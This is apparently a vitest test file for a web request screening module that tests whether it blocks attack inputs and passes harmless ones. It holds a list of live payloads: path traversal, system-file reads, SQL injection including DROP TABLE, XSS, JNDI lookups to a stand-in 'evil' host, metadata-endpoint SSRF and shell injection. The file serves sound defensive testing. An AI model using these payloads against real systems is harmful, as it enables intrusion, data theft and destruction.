// Screening: what must be stopped, what must not be, and that no text makes it slow.
import { describe, expect, it } from 'vitest';
import { screen, screenJson, screenText } from './screen.ts';
import { type Place, rules } from './screening-rules.ts';

// biome-ignore-start lint/suspicious/noTemplateCurlyInString: that is what the attack looks like
const attacks: [string, Place, string][] = [
  ['traversal', 'path', '/v1/documents/../../etc'],
  ['traversal', 'query', '..\\..\\windows'],
  ['traversal', 'path', '/v1/%2e%2e/secret'],
  ['traversal', 'query', '%2e%2e%2fsecret'],
  ['system-file', 'query', 'file:///etc/passwd'],
  ['system-file', 'query', '/proc/self/environ'],
  ['hidden-file', 'path', '/.git/config'],
  ['hidden-file', 'path', '/.env'],
  ['hidden-file', 'path', '/wp-login.php'],
  ['line-break', 'query', 'a\r\nSet-Cookie: x=1'],
  ['sql-tautology', 'body', "' OR '1'='1"],
  ['sql-tautology', 'query', "x' or 1=1--"],
  ['sql-tautology', 'body', "admin') or ('a'='a"],
  ['sql-tautology', 'query', 'x%27%20or%201=1--'],
  ['sql-union', 'query', "1' UNION ALL SELECT null,null--"],
  ['sql-union', 'body', "1' union/**/select password from users"],
  ['sql-stacked', 'body', "1'; DROP TABLE documents; --"],
  ['sql-stacked', 'query', '1; delete from users'],
  ['sql-delay', 'query', '1 and 1=(select 1 from pg_sleep(5))'],
  ['script-element', 'body', '<script>alert(1)</script>'],
  ['script-element', 'query', '<ScRiPt/src=//evil>'],
  ['script-element', 'body', '</title><iframe src=x>'],
  ['event-handler', 'body', '<img src=x onerror=alert(1)>'],
  ['event-handler', 'body', '<svg/onload=alert(1)>'],
  ['event-handler', 'query', '<body\tonpageshow = alert(1)>'],
  ['script-address', 'body', 'javascript:alert(1)'],
  ['script-address', 'query', 'JaVaScRiPt:alert(1)'],
  ['lookup', 'header', '${jndi:ldap://evil/a}'],
  ['lookup', 'body', '${${lower:j}ndi:ldap://evil/a}'],
  ['instance-metadata', 'body', 'http://169.254.169.254/latest/meta-data/'],
  ['shell', 'query', 'a; cat /etc/hostname'],
  ['shell', 'path', '/v1/$(id)/x'],
];
// biome-ignore-end lint/suspicious/noTemplateCurlyInString: the attacks end here

const harmless: [Place, string][] = [
  ['path', '/v1/documents/0190f3a2-7c3e-7000-8000-000000000001'],
  ['path', '/.well-known/jwks.json'],
  ['path', '/openapi.json'],
  ['query', "O’Brien or O'Brien"],
  ['query', 'contracts 2025/2026'],
  ['query', 'eyJjIjoiMDE5MGYzYTIifQ'],
  ['body', "It's 5 o'clock; and or else we don't."],
  ['body', 'The union selected its delegates; the parties select a union.'],
  ['body', "Peter's or Mary's; drop it off on Monday -- please"],
  ['body', 'if a < b and c > d then x = 1'],
  ['body', 'Use <b>bold</b> and <a href="/x">links</a>; price: $ {12}'],
  ['body', 'Read "JavaScript: The Good Parts" (2008).'],
  ['body', 'select * from the menu; update us; delete nothing'],
  ['body', '..., ../ and so on / 50 % off'],
  ['body', 'description: one condition = fine; only=1'],
  ['header', 'Mozilla/5.0 (X11; Linux x86_64; rv:153.0) Gecko/20100101 Firefox/153.0'],
];

describe('screening', () => {
  it.each(attacks)('%s in the %s: %j', (id, place, text) => {
    expect(screenText(place, text)?.id).toBe(id);
  });

  it.each(harmless)('lets through in the %s: %j', (place, text) => {
    expect(screenText(place, text)).toBeNull();
  });

  it('every rule has an attack that it alone stops, and says for which managed rules it stands', () => {
    for (const rule of rules) {
      expect(attacks.some(([id]) => id === rule.id)).toBe(true);
      expect(rule.standsFor).toMatch(/^AWSManagedRules/);
      for (const [id, , text] of attacks)
        if (id === rule.id && !text.includes('%') && rule.pattern.test(text.toLowerCase()))
          expect(text.toLowerCase()).toContain(rule.needs);
    }
  });

  it('looks at every part, and at names and values of JSON however deep', () => {
    expect(screen([])).toBeNull();
    expect(
      screen([
        { place: 'path', text: '/v1' },
        { place: 'query', text: "' or 1=1" },
      ])?.id,
    ).toBe('sql-tautology');
    expect(screenJson({ a: [{ b: ['<script>'] }] })?.id).toBe('script-element');
    expect(screenJson({ '<script>': 1 })?.id).toBe('script-element');
    expect(screenJson({ a: 1, b: null, c: true, d: ['x'] })).toBeNull();
  });

  it('a pad in front changes nothing', () => {
    for (const [id, place, text] of attacks)
      if (place === 'body') expect(screenText(place, `${'a '.repeat(32_000)}${text}`)?.id).toBe(id);
  });

  it('64 KB of what each rule looks for costs less than 50 ms', () => {
    const seeds = [
      '<a ',
      '<a on',
      "' or ",
      "'or(",
      '${',
      '${a',
      '../',
      "1' union ",
      "1' union/*",
      "';",
      '; cat',
      'javascript:',
    ];
    for (const seed of seeds) {
      const text = seed.repeat(65_536 / seed.length);
      for (const place of ['path', 'query', 'body'] as const) {
        const start = process.threadCpuUsage();
        screenText(place, text);
        const { user, system } = process.threadCpuUsage(start);
        expect((user + system) / 1_000, seed).toBeLessThan(50);
      }
    }
  });
});
